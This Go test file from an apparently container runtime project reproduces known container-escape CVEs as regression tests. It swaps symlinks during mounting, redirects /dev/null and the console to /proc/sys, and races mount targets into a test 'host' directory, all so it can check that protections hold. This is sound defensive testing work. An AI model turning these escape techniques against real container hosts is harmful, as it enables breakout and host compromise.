package escape

import (
	"os"
	"path/filepath"
	"strings"

	"github.com/gantryd/gantry/plugins/exec-native/weak"
	"github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// mountClasses are those about where a mount, or what is made for one, ends up.
func mountClasses() []class {
	return []class{
		{
			name: "CVE-2019-19921", attack: "/proc is a link into a volume; another container turns it elsewhere before the masks come",
			shim: "WEAKEN_PROC_LINK", try: func(w *world) bool { return turnAway(w, "proc", "cpuinfo") },
		},
		{
			name: "CVE-2023-27561", attack: "the same with /sys, whose masks then cover something else",
			shim: "WEAKEN_PROC_LINK", try: func(w *world) bool { return turnAway(w, "sys", "kernel/uevent_seqnum") },
		},
		{
			name: "CVE-2021-30465", attack: "a mount's target in a shared volume becomes a link to the host between check and mount",
			shim: "WEAKEN_TARGET", pauses: true, try: swapTarget,
		},
		{
			name: "kubernetes CVE-2021-25741", attack: "a volume's directory becomes a link to the host after it was looked at, before it is mounted",
			shim: "WEAKEN_SOURCE", pauses: true, try: swapSource,
		},
		{
			name: "CVE-2024-45310", attack: "a directory in a shared volume becomes a link to the host while the missing ones below it are made",
			shim: "WEAKEN_MAKE", pauses: true, try: swapParent,
		},
		{
			name: "crun CVE-2019-18837", attack: "the image has a link to the host in a mount's target",
			shim: "WEAKEN_IN_ROOT", try: linkInTarget,
		},
		{
			name: "CVE-2025-31133", attack: "/dev/null becomes a link before masks are made of it: what it names can be written through a masked path",
			shim: "WEAKEN_NULL", try: swapNull,
		},
		{
			name: "CVE-2025-52565", attack: "the pty's name becomes a link before it is mounted at /dev/console: what it names can be written there",
			shim: "WEAKEN_CONSOLE", pauses: true, try: swapConsole,
		},
		{
			name: "containerd CVE-2022-23648", attack: "a volume that is filled from the image is a link to the host there",
			off: []weak.Protection{weak.CopyUpInRoot}, try: copyUpLink,
		},
	}
}

// front adds a mount before all others.
func (b *bundle) front(m specs.Mount) {
	b.Mounts = append([]specs.Mount{m}, b.Mounts...)
}

// bind is a directory of the host's in the container.
func bind(source, target string) specs.Mount {
	return specs.Mount{Destination: target, Type: "bind", Source: source, Options: []string{"rbind", "rw"}}
}

// beforeMasks has a shell's words run on the host's side of what is shared, when
// all is mounted and nothing covered. They stand for another container that has
// the volume too.
func (b *bundle) beforeMasks(script string) {
	b.Hooks = &specs.Hooks{CreateRuntime: []specs.Hook{{Path: "/bin/sh", Args: []string{"sh", "-ec", script}}}}
}

// during makes the container with words of run, and swaps when the init waits at
// a FIFO.
func (b *bundle) during(fifo string, swap func()) result {
	w := b.w
	w.t.Helper()
	w.must(unix.Mkfifo(fifo, 0o600))
	done := make(chan result)
	b.save()
	go func() { done <- w.oci(nil, b.args("run")...) }()
	var hold *os.File
	w.await("the init waits", func() bool {
		select {
		case r := <-done:
			w.t.Fatalf("the init did not wait: %s", r.out)
		default:
		}
		f, err := os.OpenFile(fifo, os.O_WRONLY|unix.O_NONBLOCK, 0) // ENXIO: nobody reads
		hold = f
		return err == nil
	})
	swap()
	hold.Close()
	return <-done
}

func turnAway(w *world, name, masked string) bool {
	vol := w.path("volume")
	w.path("volume/" + name)
	b := w.bundle("sh", "-c", "cat /vol/real/"+masked+" && echo; echo ran")
	w.must(os.Remove(filepath.Join(b.root, name)))
	w.must(os.Symlink("/vol/"+name, filepath.Join(b.root, name)))
	b.front(bind(vol, "/vol"))
	b.Linux.MaskedPaths = []string{"/" + name + "/" + masked}
	b.Linux.ReadonlyPaths = nil
	b.beforeMasks("cd " + vol + "; mv " + name + " real; mkdir -p " + filepath.Dir(name+"/"+masked) + "; touch " + name + "/" + masked)
	r := b.make("run")
	text, err := os.ReadFile("/" + name + "/" + masked)
	w.must(err)
	first, _, _ := strings.Cut(string(text), "\n")
	if r.code != 0 && !strings.Contains(r.out, "symbolic links") && !strings.Contains(r.out, "/"+name) {
		w.t.Errorf("refused with other words: %s", r.out)
	}
	if name == "sys" { // a counter
		return strings.Contains(r.out, "ran") && len(strings.Fields(r.out)) > 1 && !strings.Contains(r.out, "cat:")
	}
	return strings.Contains(r.out, first)
}

func swapTarget(w *world) bool {
	vol, host := w.path("volume"), w.path("host")
	w.path("volume/x/target")
	w.path("host/target")
	b := w.bundle("true")
	b.mount(bind(vol, "/vol"))
	b.mount(bind(w.path("payload"), "/vol/x/target"))
	table := filepath.Join(w.dir, "mountinfo")
	b.beforeMasks(`pid=$(grep -o '"pid":[0-9]*' | cut -d: -f2); cat /proc/$pid/mountinfo >` + table)
	r := b.during(filepath.Join(vol, "x/target.pause"), func() {
		w.must(os.Rename(filepath.Join(vol, "x"), filepath.Join(vol, "old")))
		w.must(os.Symlink(host, filepath.Join(vol, "x")))
	})
	if r.code != 0 {
		w.t.Fatalf("run: %s", r.out)
	}
	return w.has(table, " "+host+"/target ")
}

func swapSource(w *world) bool {
	source, host := w.path("volume/source"), w.path("host")
	w.write(filepath.Join(source, "mark"), "of the volume")
	b := w.bundle("cat", "/data/mark")
	b.mount(bind(w.path("payload"), "/first"))
	b.mount(bind(source, "/data"))
	r := b.during(filepath.Join(b.root, "first.pause"), func() {
		w.must(os.Rename(source, source+".old"))
		w.must(os.Symlink(host, source))
	})
	if r.code != 0 && !strings.Contains(r.out, "has been replaced") {
		w.t.Fatalf("run: %s", r.out)
	}
	return strings.Contains(r.out, secret)
}

func swapParent(w *world) bool {
	vol, host := w.path("volume"), w.path("host")
	w.path("volume/a")
	b := w.bundle("true")
	b.mount(bind(vol, "/vol"))
	b.mount(bind(w.path("payload"), "/vol/a/b/c"))
	b.during(filepath.Join(vol, "a/b.pause"), func() {
		w.must(os.Rename(filepath.Join(vol, "a"), filepath.Join(vol, "old")))
		w.must(os.Symlink(host, filepath.Join(vol, "a")))
	})
	_, err := os.Stat(filepath.Join(host, "b"))
	return err == nil
}

func linkInTarget(w *world) bool {
	host := w.path("host")
	b := w.bundle("true")
	w.must(os.Symlink(host, filepath.Join(b.root, "etc/link")))
	b.mount(bind(w.path("payload"), "/etc/link/made"))
	b.make("run")
	_, err := os.Stat(filepath.Join(host, "made"))
	return err == nil
}

// devices makes a /dev that another container has too.
func (w *world) devices() string {
	dir := w.path("devices")
	w.must(unix.Mknod(filepath.Join(dir, "null"), unix.S_IFCHR|0o666, int(unix.Mkdev(1, 3))))
	w.must(os.Mkdir(filepath.Join(dir, "pts"), 0o755))
	return dir
}

// domain is a setting of the container's own that its read-only /proc/sys keeps
// it from changing.
const domain = "/proc/sys/kernel/domainname"

func swapNull(w *world) bool {
	dev := w.devices()
	b := w.bundle("sh", "-c", "echo changed >/proc/cpuinfo; echo \"<$(cat "+domain+")>\"")
	b.mount(bind(dev, "/dev"))
	b.Linux.MaskedPaths = []string{"/proc/cpuinfo"}
	b.beforeMasks("rm " + dev + "/null; ln -s " + domain + " " + dev + "/null")
	return strings.Contains(b.make("run").out, "<changed>")
}

func swapConsole(w *world) bool {
	dev := w.devices()
	b := w.bundle("sh", "-c", "echo changed >/dev/console; echo \"<$(cat "+domain+")>\"")
	b.Process.Terminal = true
	b.mount(bind(dev, "/dev"))
	r := b.during(filepath.Join(dev, "console.open.pause"), func() {
		w.must(os.Rename(filepath.Join(dev, "pts"), filepath.Join(dev, "old")))
		w.must(os.Mkdir(filepath.Join(dev, "pts"), 0o755))
		w.must(os.Symlink(domain, filepath.Join(dev, "pts/0")))
	})
	if !strings.Contains(r.out, "<") {
		w.t.Fatalf("the program did not run: %s", r.out)
	}
	return strings.Contains(r.out, "<changed>")
}

func copyUpLink(w *world) bool {
	b := w.bundle("cat", "/data/mark")
	w.must(os.Symlink(w.path("host"), filepath.Join(b.root, "data")))
	b.mount(specs.Mount{Destination: "/data", Type: "tmpfs", Source: "tmpfs", Options: []string{"tmpcopyup"}})
	w.must(os.MkdirAll(filepath.Join(b.root, w.path("host")), 0o755)) // where the link leads inside
	return strings.Contains(b.make("run").out, secret)
}
